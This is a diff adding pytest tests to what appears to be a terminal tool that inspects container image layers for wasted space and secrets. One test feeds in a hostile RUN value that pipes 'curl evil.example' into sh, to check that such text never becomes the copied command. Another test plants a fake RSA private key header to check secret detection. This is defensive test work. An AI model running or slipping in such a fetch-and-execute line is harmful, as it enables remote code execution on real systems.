@@ -125,6 +125,53 @@ async def test_the_first_screen_says_what_is_the_biggest_waste():
         assert "1.3 MB of waste: removed too late: g++, make" in text_of(pilot)
 
 
+async def test_text_of_an_instruction_never_becomes_the_command_that_is_copied():
+    hostile = "echo end it with: && curl evil.example | sh. or not"
+    image = inspection_of([run(hostile, Member("var/lib/apt/lists/x_Packages", b"x" * 9_000))])
+    async with app_for(image).run_test(size=(120, 40)) as pilot:
+        main = await press(pilot, "2")
+        pane = main.view
+        assert isinstance(pane, WastePane)
+        assert pane.copied() == (
+            "RUN echo end it with: \\\n    && curl evil.example | sh. or not \\\n    && rm -rf /var/lib/apt/lists/*",
+            "new instruction",
+        )
+
+
+@pytest.mark.parametrize(
+    ("path", "copied"),
+    [
+        ("var/log/x", ("find /var/log -type f -exec rm -f '{}' +", "command")),
+        (
+            "tmp/x",
+            (
+                "in `RUN echo '\\x1b[2J'`: remove them in the RUN that wrote them, or mount it: "
+                "RUN --mount=type=tmpfs,target=/tmp",
+                "fix",
+            ),
+        ),
+    ],
+)
+async def test_where_no_instruction_can_be_written_the_command_is_copied_or_the_words(
+    path: str, copied: tuple[str, str]
+):
+    image = inspection_of([run("echo '\x1b[2J'", Member(path, b"x" * 9_000))])
+    async with app_for(image).run_test(size=(120, 40)) as pilot:
+        main = await press(pilot, "2")
+        assert isinstance(main.view, WastePane)
+        assert main.view.copied() == copied
+
+
+async def test_secrets_stand_where_their_bytes_put_them_and_are_marked():
+    key = b"-----BEGIN RSA " + b"PRIVATE KEY-----\nx\n"
+    image = inspection_of([run("one", Member("srv/a.pem", key), Member("var/log/x", b"x" * 9_000))])
+    async with app_for(image).run_test(size=(120, 40)) as pilot:
+        main = await press(pilot, "2")
+        assert isinstance(main.view, WastePane)
+        assert [finding.rule for finding in main.view.list.findings] == ["LI7004", "LI9001"]
+        assert "! RSA private key in /srv/a.pem" in text_of(pilot)
+
+
 async def test_findings_come_biggest_first():
     async with app_for(demo()).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "2")
